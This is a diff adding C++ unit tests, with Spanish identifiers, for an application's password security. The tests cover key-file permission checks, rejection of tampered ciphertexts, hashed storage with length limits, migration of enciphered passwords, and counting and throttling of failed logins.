+    Contrasenas() { qputenv("TEQVARO_CLAVE", rutaClave().toLocal8Bit()); }
+    ~Contrasenas() override { qunsetenv("TEQVARO_CLAVE"); }
+
+    QString rutaClave() const { return carpeta.filePath("sub/clave.bin"); }
+
+    bool escribeClave(const QByteArray &bytes, QFile::Permissions permisos = soloDueno) const
+    {
+        QDir().mkpath(QFileInfo(rutaClave()).path());
+        QFile clave(rutaClave());
+        return clave.open(QIODevice::WriteOnly | QIODevice::Truncate) && clave.write(bytes) == bytes.size()
+               && clave.setPermissions(permisos);
+    }
+
+    // A password as the program kept it before: enciphered under the key file's bytes.
+    QString cifradaComoAntes(const QString &clara) const
+    {
+        QFile archivo(rutaClave());
+        archivo.open(QIODevice::ReadOnly);
+        const QByteArray clave = archivo.readAll();
+        const QByteArray texto = clara.toUtf8();
+        QByteArray guardado(qsizetype(crypto_secretbox_NONCEBYTES + crypto_secretbox_MACBYTES) + texto.size(), '\0');
+        auto *nonce = reinterpret_cast<unsigned char *>(guardado.data());
+        randombytes_buf(nonce, crypto_secretbox_NONCEBYTES);
+        crypto_secretbox_easy(nonce + crypto_secretbox_NONCEBYTES,
+                              reinterpret_cast<const unsigned char *>(texto.constData()), quint64(texto.size()), nonce,
+                              reinterpret_cast<const unsigned char *>(clave.constData()));
+        return "sb1:" + QString::fromLatin1(guardado.toBase64());
+    }
+
+    QTemporaryDir carpeta;
+};
+
+TEST_F(Contrasenas, anOldTextDeciphersUnderItsKeyAndAnAlteredOrForeignOneRaisesError5)
+{
+    ASSERT_TRUE(escribeClave(QByteArray(32, 'k')));
+    const QString guardada = cifradaComoAntes("Contraseña con ñ");
+    EXPECT_EQ(Servicios::Cifrado().Descifra(guardada), "Contraseña con ñ");
+    QString alterada = guardada;
+    QChar &cambiada = alterada[alterada.size() - 6];
+    cambiada = cambiada == u'A' ? u'B' : u'A';
+    for (const QString &mala :
+         QStringList{alterada, "secreto", "", "sb1:", "sb1:%%%no base64%%%", "sb1:AAAA", "sb2:" + guardada.mid(4)})
+        EXPECT_EQ(errorDe([&] { Servicios::Cifrado().Descifra(mala); }), InvalidCall) << mala.toStdString();
+    ASSERT_TRUE(escribeClave(QByteArray(32, 'o'))); // another installation's key
+    EXPECT_EQ(errorDe([&] { Servicios::Cifrado().Descifra(guardada); }), InvalidCall);
+}
+
+// A key that cannot be used is reported with its path and reason. The key must be the user's
+// own file: one another account owns is refused even to root (that account could have chosen
+// it), and a link to nothing is named as such.
+TEST_F(Contrasenas, aKeyMissingOpenToOthersOfAnotherSizeOwnerOrALinkIsRefusedSayingWhy)
+{
+    const auto escribe = [this](qsizetype tamano, QFile::Permissions permisos) {
+        return [this, tamano, permisos] { return escribeClave(QByteArray(tamano, 'k'), permisos); };
+    };
+    const std::pair<const char *, std::function<bool()>> casos[] = {
+        {"no existe", [] { return true; }},
+        {"otros usuarios", escribe(32, soloDueno | QFile::ReadGroup | QFile::ReadOther)},
+        {"otros usuarios", escribe(32, soloDueno | QFile::WriteGroup)},
+        {"tamaño", escribe(31, soloDueno)},
+        {"tamaño", escribe(64, soloDueno)},
+        {"es un enlace a",
+         [this] {
+             return QDir().mkpath(QFileInfo(rutaClave()).path())
+                    && QFile::link(carpeta.filePath("nada.bin"), rutaClave());
+         }},
+        {"pertenece a otro usuario", // changing a file's owner takes root
+         [this] {
+             return escribeClave(QByteArray(32, 'k'))
+                    && ::chown(QFile::encodeName(rutaClave()).constData(), 65534, 65534) == 0;
+         }},
+    };
+    for (const auto &[motivo, prepara] : casos) {
+        SCOPED_TRACE(motivo);
+        if (!prepara())
+            continue;
+        const auto usa = [] { Servicios::Cifrado(); };
+        EXPECT_EQ(errorDe(usa), ErrorDeArchivo);
+        const QString dicho = Pruebas::descripcionDe(usa);
+        EXPECT_TRUE(dicho.contains(rutaClave()) && dicho.contains(QString::fromUtf8(motivo))) << dicho.toStdString();
+        QFile::remove(rutaClave());
+    }
+    EXPECT_FALSE(QFile::exists(carpeta.filePath("nada.bin"))); // the link was not followed
+}
+
+// A password is stored as a hash nobody reads back. One nobody can type back, a short one or
+// one past the limit is refused for salespeople and operators alike, and the one stored
+// before stays.
+TEST_F(Contrasenas, aPasswordIsStoredAsAHashAndAShortBlankOrOverlongOneIsRefused)
+{
+    Pruebas::BaseDePrueba base;
+    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion) VALUES ('V''1', 'Vera')");
+    base.ejecuta("INSERT INTO Operador (Ope_Cve_Operador, Ope_Nombre) VALUES ('OP', 'Olga')");
+    Servicios::ponContrasena("V'1", "Clave'1 larga");
+    Servicios::ponContrasenaOperador("OP", "Antes de todo");
+    const auto guardadas = [&base] {
+        return base.valor("SELECT Vc_Huella FROM Vendedor_Contrasena") + '|'
+               + base.valor("SELECT Oc_Huella FROM Operador_Contrasena");
+    };
+    EXPECT_FALSE(guardadas().contains("Clave") || guardadas().contains("Antes"));
+    EXPECT_EQ(base.cuenta("Vendedor", "Vn_Password IS NOT NULL"), 0);
+    EXPECT_EQ(errorDe([] { Servicios::ponContrasena("NADIE", "Una muy buena"); }), InvalidCall);
+
+    // The limits count characters, not bytes.
+    const std::pair<QString, bool> casos[] = {{"", false},
+                                              {"   ", false},
+                                              {QString(12, ' '), false},
+                                              {"Nueve1234", false},
+                                              {QString(257, 'a'), false},
+                                              {"Diez123456", true},
+                                              {QString(256, u'ñ'), true},
+                                              {" con espacios ", true}};
+    for (const auto &[contrasena, aceptada] : casos) {
+        SCOPED_TRACE(contrasena.left(20).toStdString());
+        const QString antes = guardadas();
+        EXPECT_EQ(errorDe([&] { Servicios::ponContrasena("V'1", contrasena); }), aceptada ? 0 : InvalidCall);
+        EXPECT_EQ(errorDe([&] { Servicios::ponContrasenaOperador("OP", contrasena); }), aceptada ? 0 : InvalidCall);
+        EXPECT_EQ(guardadas() == antes, !aceptada);
+    }
+    EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V'1", " con espacios "),
+              RevisionDeContrasena::Coincide);
+}
+
+// Passwords kept enciphered become hashes on the upgrade: those this desk's key deciphers
+// still open the login, the others ask for a new one; none stays in Vendedor.
+TEST_F(Contrasenas, theUpgradeHashesWhatTheKeyDeciphersAndAsksANewPasswordForTheRest)
+{
+    ASSERT_TRUE(escribeClave(QByteArray(32, 'k')));
+    Pruebas::BaseDePrueba base(3);
+    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion, Vn_Password) VALUES ('V1', 'Uno', '"
+                 + cifradaComoAntes("Secreta1") + "'), ('V2', 'Dos', 'sb1:AAAA'), ('V3', 'Tres', NULL)");
+    Datos::actualizaEsquema(*base.conexion());
+
+    const auto revisa = [&base](const QString &codigo, const QString &clara) {
+        return Servicios::revisaContrasenaDeVendedor(*base.conexion(), codigo, clara);
+    };
+    EXPECT_EQ(revisa("V1", "Secreta1"), RevisionDeContrasena::Coincide);
+    EXPECT_EQ(revisa("V2", "Secreta1"), RevisionDeContrasena::PideNueva);
+    EXPECT_EQ(revisa("V3", ""), RevisionDeContrasena::NoCoincide);
+    EXPECT_EQ(revisa("NADIE", "Secreta1"), RevisionDeContrasena::NoCoincide);
+    EXPECT_EQ(base.cuenta("Vendedor", "Vn_Password IS NOT NULL"), 0);
+    Servicios::ponContrasena("V2", "Nueva contraseña");
+    EXPECT_EQ(revisa("V2", "Nueva contraseña"), RevisionDeContrasena::Coincide);
+}
+
+// The server counts each failure before its outcome can be read, writes it to the audit log,
+// and forgets the count on a success; a try inside a transaction tells nothing.
+using ContrasenasPostgreSQL = Contrasenas;
+
+TEST_F(ContrasenasPostgreSQL, theServerCountsEachFailureBeforeItsOutcomeCanBeRead)
+{
+    Pruebas::BaseDePrueba base;
+    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion) VALUES ('V1', 'Uno')");
+    Servicios::ponContrasena("V1", "Secreta123");
+    for (int vez = 0; vez < 3; ++vez)
+        EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "mala"),
+                  RevisionDeContrasena::NoCoincide);
+    EXPECT_EQ(base.valor("SELECT Vc_Fallos FROM Vendedor_Contrasena"), "3");
+    EXPECT_EQ(base.cuenta("Bitacora", "Bi_Entidad = 'VENDEDOR' AND Bi_Clave = 'V1'"), 3);
+
+    base.ejecuta("BEGIN");
+    const QString intento = base.valor("SELECT teqvaro_intenta_vendedor('V1', 'Secreta123')");
+    EXPECT_NE(errorDe([&] { base.valor("SELECT teqvaro_resultado_vendedor('" + intento + "')"); }), 0);
+    base.ejecuta("ROLLBACK");
+
+    EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "Secreta123"),
+              RevisionDeContrasena::Coincide);
+    EXPECT_EQ(base.valor("SELECT Vc_Fallos FROM Vendedor_Contrasena"), "0");
+
+    // From the fifth failure in a row, the server waits before it checks.
+    base.ejecuta("UPDATE Vendedor_Contrasena SET Vc_Fallos = 5");
+    QElapsedTimer reloj;
+    reloj.start();
+    Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "mala");
+    EXPECT_GE(reloj.elapsed(), 1000);
 }
 
 } // namespace
